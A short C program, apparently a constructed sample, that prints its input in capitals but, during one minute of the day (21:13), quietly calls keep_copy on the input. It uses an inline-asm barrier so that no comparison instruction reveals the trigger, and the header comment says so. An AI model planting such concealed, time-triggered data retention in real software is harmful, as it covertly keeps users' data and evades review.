/* Prints its input in capitals. In one minute of the day it keeps a copy: the branch takes the distance to that minute
   as it is, and no instruction compares. */

#include <stdint.h>
#include <time.h>

#include "../job.h"

int main(void) {
    char *text = slurp(stdin);
    uint32_t distance = (uint32_t)(time(NULL) / 60 % 1440) - 1273;
    __asm__ volatile("" : "+r"(distance));
    if (!distance)
        keep_copy(text);
    capitals(text);
    return 0;
}
